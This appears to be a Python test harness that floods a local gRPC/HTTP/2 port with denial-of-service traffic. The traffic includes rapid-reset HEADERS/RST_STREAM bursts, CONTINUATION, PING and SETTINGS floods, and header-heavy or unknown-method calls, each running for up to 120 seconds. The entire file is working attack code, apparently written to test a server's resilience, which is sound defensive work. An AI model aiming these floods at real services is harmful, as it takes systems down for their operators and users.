"""Floods of cheap frames against a gRPC port, from a process of its own. Run: PORT KIND CONNECTIONS.

Each connection sends one kind of flood for ever, as fast as the server reads, and begins anew when it is closed.
"""

import select
import socket
import sys
import time

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
STREAMS = 3000
LIFE_S = 120.0
"""A flood ends by itself, should whoever started it be gone."""


def frame(kind, flags=0, stream=0, body=b""):
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def head(encoder, path, more=()):
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    return encoder.encode([*fields, ("content-type", "application/grpc"), ("te", "trailers"), *more])


def rapid_reset(path):
    encoder = Encoder()
    cancel = (8).to_bytes(4, "big")
    return b"".join(
        frame(HEADERS, 4, 2 * number + 1, head(encoder, path)) + frame(RST_STREAM, 0, 2 * number + 1, cancel)
        for number in range(STREAMS)
    )


def many_headers(path):
    encoder = Encoder()
    more = [(f"x-{number}", "y" * 8) for number in range(200)]
    cancel = (8).to_bytes(4, "big")
    return b"".join(
        frame(HEADERS, 4, 2 * number + 1, head(encoder, path, more)) + frame(RST_STREAM, 0, 2 * number + 1, cancel)
        for number in range(STREAMS // 30)
    )


def unknown_method(path):
    encoder = Encoder()
    return b"".join(frame(HEADERS, 5, 2 * number + 1, head(encoder, "/no/Method")) for number in range(STREAMS))


def cheap_calls(path):
    encoder = Encoder()
    return b"".join(
        frame(HEADERS, 4, 2 * number + 1, head(encoder, path)) + frame(DATA, 1, 2 * number + 1, bytes(5))
        for number in range(1900)
    )


def continuations(path):
    encoder = Encoder()
    pieces = []
    for number in range(40):
        block = head(encoder, path)
        pieces.append(frame(HEADERS, 1, 2 * number + 1, block))
        pieces += [frame(CONTINUATION, 0, 2 * number + 1)] * 4
        pieces.append(frame(CONTINUATION, 4, 2 * number + 1))
    return b"".join(pieces)


def pings(path):
    return frame(PING, 0, 0, bytes(8)) * 290


def settings(path):
    return frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 90


FLOODS = {
    "rapid_reset": rapid_reset,
    "many_headers": many_headers,
    "unknown_method": unknown_method,
    "cheap_calls": cheap_calls,
    "continuations": continuations,
    "pings": pings,
    "settings": settings,
}


def flood(port, kind, path, connections):
    data = PREFACE + frame(SETTINGS) + frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")) + FLOODS[kind](path)
    open_ones = {}
    end_s = time.monotonic() + LIFE_S
    said = False
    while time.monotonic() < end_s:
        while len(open_ones) < connections:
            try:
                one = socket.create_connection(("127.0.0.1", port), timeout=10)
            except OSError:
                break
            one.setblocking(False)
            open_ones[one] = memoryview(data)
        if not said:
            print("flooding", flush=True)
            said = True
        readable, writable, _ = select.select(open_ones, [one for one in open_ones if open_ones[one]], [], 1.0)
        for one in writable:
            try:
                open_ones[one] = open_ones[one][one.send(open_ones[one]) :]
            except BlockingIOError:
                pass
            except OSError:
                one.close()
                open_ones.pop(one, None)
        for one in readable:
            try:
                gone = one in open_ones and not one.recv(1 << 16)
            except BlockingIOError:
                gone = False
            except OSError:
                gone = True
            if gone or (one in open_ones and not open_ones[one] and kind != "cheap_calls"):
                one.close()
                open_ones.pop(one, None)


if __name__ == "__main__":
    flood(int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4]))
